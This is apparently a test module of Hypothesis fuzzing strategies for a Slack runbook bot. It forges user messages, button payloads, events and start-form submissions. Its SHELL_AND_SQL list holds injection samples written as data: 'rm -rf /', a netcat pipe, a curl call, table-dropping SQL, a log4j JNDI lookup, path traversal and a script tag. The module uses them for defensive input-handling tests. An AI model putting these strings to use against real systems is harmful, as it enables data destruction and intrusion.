"""Hypothesis strategies for what a hostile or careless chat user, or a forger holding the
signing secret, can send: texts, ids, button payloads, modal submissions, events."""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

from bot.blocks.ids import ActionId, TenantAction
from bot.core.runbook import StepId

WORDS = (
    "check",
    "start",
    "status",
    "done",
    "skip",
    "reopen",
    "passwords",
    "history",
    "request",
    "remind",
    "reminders",
    "help",
)
SHELL_AND_SQL = (
    "; rm -rf / #",
    "$(reboot)",
    "`id`",
    "| nc 10.0.0.1 4444",
    "&& curl http://127.0.0.1:1/x",
    "' OR '1'='1",
    "'; DROP TABLE tenants; --",
    '" ; DELETE FROM step_states; --',
    "1; UPDATE approval_votes SET decision='approve'",
    "%s%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://127.0.0.1/a}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "<!channel> <!here> <@U0ALICE>",
    "*bold* _it_ ~x~ ```code```",
    "\x00",
    "\r\n\r\n",
    "\u202egnp.exe",
    "\ufeff",
    "NaN",
    "-1",
    "99999999999999999999999",
    "null",
    "[]",
    "{}",
)
IDNA_EDGES = (
    "contoso.com",
    "premx.test",
    "moved.test",
    "xn--bcher-kva.test",
    "bücher.test",
    "BÜCHER.TEST.",
    "faß.de",
    "ﬁ.com",
    "ⓒⓞⓝⓣⓞⓢⓞ.ⓒⓞⓜ",
    "例え.テスト",
    "x\u3002com",
    "a\u200db.com",
    "\u0130stanbul.com",
    "xn--",
    "xn--a.com",
    "xn--zz-.com",
    "-a.com",
    "a-.com",
    "a..com",
    ".com",
    "com.",
    ".",
    "@",
    "user@",
    "user@contoso.com",
    "<http://contoso.com|contoso.com>",
    "<mailto:a@contoso.com|a@contoso.com>",
    "https://user:pw@contoso.com:99999/x",
    "http://[::1]/",
    "192.168.0.1",
    "10.1.2",
    "_dmarc.contoso.com",
    "*.contoso.com",
    "a" * 64 + ".com",
    ("a" * 63 + ".") * 4 + "com",
    "contoso.com contoso.de",
)
IDS_OWN = ("T0TEST", "U0ALICE", "U0APPROVER", "C0CUTOVER")
FOREIGN_TEAMS = ("T0FOREIGN", "T0OTHER", "E0GRID", "T" + "9" * 31)

# Every code point except surrogates (they cannot be encoded); control characters included.
_chars = st.characters(exclude_categories=["Cs"])


def _repeated(chunk: str, size: int) -> str:
    return (chunk * (size // len(chunk) + 1))[:size]


# A 4 kB string: a random chunk repeated to a random length (drawing 4,000 characters one by one
# cost more than the request it was sent in; what the long text is for is its length).
long_text = st.builds(_repeated, st.text(_chars, min_size=1, max_size=100), st.integers(3900, 4200))
hostile_text = st.one_of(
    st.text(_chars, max_size=60),
    st.sampled_from(SHELL_AND_SQL),
    st.sampled_from(IDNA_EDGES),
    long_text,
    st.lists(st.sampled_from(SHELL_AND_SQL + IDNA_EDGES), min_size=2, max_size=4).map(" ".join),
)
word = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(WORDS).map(str.upper),
    st.text(_chars, max_size=12),
)


@st.composite
def command_text(draw: st.DrawFn, words: tuple[str, ...] = WORDS) -> str:
    """``<word> <hostile>`` with odd spacing, or a hostile text alone."""
    if draw(st.booleans()):
        return draw(hostile_text)
    first = draw(st.sampled_from(words) | word) if words == WORDS else draw(st.sampled_from(words))
    gap = draw(st.sampled_from((" ", "  ", "\t", "\u00a0", "\n")))
    return f"{first}{gap}{draw(hostile_text)}"


json_scalar = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.text(_chars, max_size=40),
)
json_value = st.recursive(
    json_scalar,
    lambda inner: (
        st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=8), inner, max_size=5)
    ),
    max_leaves=20,
)

MESSAGES: tuple[dict[str, Any], ...] = (
    {"ts": "1700000000.000100"},
    {},
    {"ts": 5},
    {"blocks": "x", "ts": ["1"]},
)
ACTION_IDS = tuple(a.value for a in TenantAction) + tuple(a.value for a in ActionId)
STEP_WORDS = tuple(s.value for s in StepId)


@st.composite
def button_value(draw: st.DrawFn, tenant_id: int) -> Any:
    """What a forged button value may be: the real tenant's ids, others', garbage, wrong types."""
    number = st.sampled_from((tenant_id, tenant_id + 1000, 0, -1, 2**63))
    return draw(
        st.one_of(
            st.tuples(number, st.sampled_from(STEP_WORDS) | hostile_text).map(
                lambda t: f"{t[0]}:{t[1]}"
            ),
            st.tuples(number, number).map(lambda t: f"{t[0]}:{t[1]}"),
            number.map(str),
            hostile_text,
            json_value,
        )
    )


def mostly(usual: st.SearchStrategy[Any], odd: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """``usual`` nine times in ten, else ``odd``: forged payloads still mostly reach the
    listeners instead of all being refused at the edge."""
    # Hypothesis favours the first of sampled_from's items, which is "usual" here.
    return st.sampled_from((True,) * 9 + (False,)).flatmap(lambda u: usual if u else odd)


def _drop_some(draw: st.DrawFn, payload: dict[str, Any], keys: tuple[str, ...]) -> None:
    for key in draw(st.lists(st.sampled_from(keys), unique=True, max_size=3)):
        payload.pop(key, None)


@st.composite
def block_actions(
    draw: st.DrawFn, tenant_id: int, team_ids: st.SearchStrategy[str]
) -> dict[str, Any]:
    """A block_actions payload with forged or missing fields."""
    team = draw(team_ids)
    user = draw(st.sampled_from(IDS_OWN[1:3]) | st.just("U0MALLORY"))
    action: dict[str, Any] = {
        "type": draw(st.sampled_from(("button", "static_select", "overflow")) | json_scalar),
        "action_id": draw(st.sampled_from(ACTION_IDS) | st.text(max_size=20)),
        "block_id": draw(st.text(max_size=10)),
        "value": draw(button_value(tenant_id)),
        "action_ts": "1700000000.000001",
    }
    _drop_some(draw, action, ("value", "block_id", "type"))
    payload: dict[str, Any] = {
        "type": "block_actions",
        "team": {"id": team, "domain": "x"},
        "user": {"id": user, "team_id": team},
        "api_app_id": "A0TRANSITION",
        "container": {
            "type": "message",
            "message_ts": draw(st.sampled_from(("1700000000.000100", "")) | hostile_text),
            "channel_id": draw(st.sampled_from(("C0CUTOVER", "C0ELSEWHERE"))),
            "is_ephemeral": draw(st.booleans()),
        },
        "trigger_id": "1.2.3",
        "channel": {"id": draw(st.sampled_from(("C0CUTOVER", "C0ELSEWHERE"))), "name": "x"},
        "message": draw(mostly(st.sampled_from(MESSAGES), json_value)),
        "response_url": "",
        "actions": draw(
            mostly(
                st.sampled_from(([action], [action, action])),
                st.lists(json_value, max_size=3) | json_scalar,
            )
        ),
    }
    _drop_some(draw, payload, ("container", "channel", "message", "user", "trigger_id"))
    return payload


def _input(value: Any) -> dict[str, Any]:
    return {"value": {"type": "plain_text_input", "value": value}}


def field(value: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A text input's state: Slack's shape with ``value`` (nine times in ten), else anything."""
    return mostly(value.map(_input), json_value | json_scalar.map(_input))


# Domains that parse_domains refuses, so a submitted start form never opens a tenant.
BAD_DOMAINS = ("", " ", "192.168.0.1", "a..com", "-a.com", "xn--", "@", ".", "a" * 64 + ".com")


@st.composite
def form_values(draw: st.DrawFn) -> dict[str, Any]:
    """``view.state.values`` of the start form with wrong types and invalid domains."""
    values: dict[str, Any] = {
        "name": draw(field(hostile_text)),
        "domains": draw(field(st.sampled_from(BAD_DOMAINS + SHELL_AND_SQL))),
        "onprem": draw(
            mostly(st.just({"value": {"selected_option": {"value": "yes"}}}), json_value)
        ),
        "internal_dns": draw(field(hostile_text)),
        "time_zone": draw(field(st.sampled_from(("UTC", "Mars/Olympus", "../etc")) | hostile_text)),
        "approvers": draw(
            mostly(
                st.lists(st.sampled_from(IDS_OWN) | hostile_text, max_size=150).map(
                    lambda users: {"value": {"selected_users": users}}
                ),
                json_value,
            )
        ),
        "approvals_needed": draw(field(st.sampled_from(("0", "1", "11", "-1", "1e9", "x")))),
        "partner_id": draw(field(hostile_text)),
    }
    _drop_some(draw, values, tuple(values))
    return values
